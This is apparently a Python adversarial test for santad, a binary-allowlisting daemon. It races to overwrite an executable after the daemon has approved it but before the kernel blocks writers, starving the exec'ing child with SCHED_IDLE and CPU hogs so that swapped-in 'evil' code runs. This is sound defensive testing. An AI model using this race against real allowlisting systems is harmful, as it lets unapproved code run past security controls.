# The class C attacker after the answer (tests/adversarial/rewrite.sh), run
# as the attacking user: the kernel refuses writers of a file being exec'd
# only once the exec has gone past its permission event, so between
# santad's answer and that point a writer could still put other code in the
# file. Once the exec'ing child is seen blocked inside execve (waiting for
# santad), it is made SCHED_IDLE and CPU hogs start, to keep it waiting there
# after the answer, while the writer (a normal task) opens BIG for writing,
# puts EVIL's bytes over its start and closes it.
# usage: rewrite_starved.py BIG PRISTINE EVIL ATTEMPTS fresh|cached
#   fresh: each race execs a new copy (santad hashes it, the writer's open
#   waits on its lease); cached: the copy is run once first, so the race's
#   exec is answered from santad's cache (a short wait: often not seen).
# Prints "RAN WROTE BUSY MISSED" (MISSED: the child was never seen blocked).
import errno
import os
import shutil
import signal
import sys
import time

sys.dont_write_bytecode = True  # nothing written beside the sources
from class_c import exec_child, read_all, state  # noqa: E402

big, pristine, evil_path, attempts, mode = sys.argv[1:6]
attempts = int(attempts)
evil = open(evil_path, "rb").read()


hogs = []
for _ in range(os.cpu_count() or 2):
    pid = os.fork()
    if pid == 0:
        os.kill(os.getpid(), signal.SIGSTOP)  # until an exec is under way
        while True:
            pass
    hogs.append(pid)
ran = wrote = busy = missed = 0
try:
    for i in range(attempts):
        shutil.copyfile(pristine, big)
        if mode == "cached":
            os.spawnv(os.P_WAIT, big, [big])
        r, w = os.pipe()
        pid = exec_child(big, w, (r,))
        os.close(w)
        # Blocked ("D": a permission event waits killable) inside its execve.
        limit = time.monotonic() + 5
        seen = False
        while time.monotonic() < limit:
            s = state(pid)
            if s in (None, "Z"):
                break
            if s == "D":
                seen = True
                break
        if not seen:
            missed += 1
        else:
            # Kept waiting once santad answers: the child idle, the hogs on every CPU.
            try:
                os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
            except OSError:
                pass
            for h in hogs:
                os.kill(h, signal.SIGCONT)
        try:
            fd = os.open(big, os.O_WRONLY)  # with the defence: waits until the exec holds writers off
            os.pwrite(fd, evil, 0)
            os.close(fd)
            wrote += 1
        except OSError as e:
            if e.errno != errno.ETXTBSY:
                raise
            busy += 1
        for h in hogs:
            os.kill(h, signal.SIGSTOP)
        os.waitpid(pid, 0)
        out = read_all(r)
        if b"EVIL-RAN" in out:
            ran += 1
finally:
    for pid in hogs:
        os.kill(pid, signal.SIGKILL)
        os.kill(pid, signal.SIGCONT)
        os.waitpid(pid, 0)
print(ran, wrote, busy, missed)
